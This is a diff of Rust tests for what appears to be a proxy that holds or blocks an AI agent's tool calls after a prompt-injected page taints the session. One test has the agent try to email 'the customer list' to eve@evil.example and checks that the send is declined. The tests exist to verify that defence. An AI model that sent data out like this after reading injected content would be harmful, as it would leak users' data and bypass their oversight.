@@ -133,6 +133,21 @@ fn text(result: &CallToolResult) -> String {
         .join("\n")
 }
 
+/// Reads the page with the injection (tainting the session), then asks to send an email.
+async fn send_after_the_page(
+    client: &RunningService<RoleClient, Person>,
+    to: &str,
+    body: &str,
+) -> CallToolResult {
+    call(
+        client,
+        "web__fetch_page",
+        json!({"url": "https://shop.example"}),
+    )
+    .await;
+    call(client, "web__send_email", json!({"to": to, "body": body})).await
+}
+
 fn sent(outbox: &Path) -> usize {
     std::fs::read_to_string(outbox)
         .map(|text| text.lines().count())
@@ -270,18 +285,7 @@ async fn a_declined_or_unaskable_held_call_never_runs() {
         let outbox = dir.path().join("outbox.txt");
         let config = config(dir.path(), &outbox, "");
         let client = proxy(&config, person(approve)).await;
-        call(
-            &client,
-            "web__fetch_page",
-            json!({"url": "https://shop.example"}),
-        )
-        .await;
-        let send = call(
-            &client,
-            "web__send_email",
-            json!({"to": "eve@evil.example", "body": "the customer list"}),
-        )
-        .await;
+        let send = send_after_the_page(&client, "eve@evil.example", "the customer list").await;
         assert_eq!(send.is_error, Some(true), "{}", text(&send));
         let expected = if approve.is_some() {
             "declined"
@@ -300,18 +304,7 @@ async fn observe_mode_records_but_lets_known_calls_through() {
     let outbox = dir.path().join("outbox.txt");
     let config = config(dir.path(), &outbox, "mode = \"observe\"");
     let client = proxy(&config, person(None)).await;
-    call(
-        &client,
-        "web__fetch_page",
-        json!({"url": "https://shop.example"}),
-    )
-    .await;
-    let send = call(
-        &client,
-        "web__send_email",
-        json!({"to": "ann@example.com", "body": "hi"}),
-    )
-    .await;
+    let send = send_after_the_page(&client, "ann@example.com", "hi").await;
     assert_ne!(send.is_error, Some(true), "observe mode: {}", text(&send));
     assert_eq!(sent(&outbox), 1);
     let unknown = call(&client, "web__nope", json!({})).await;
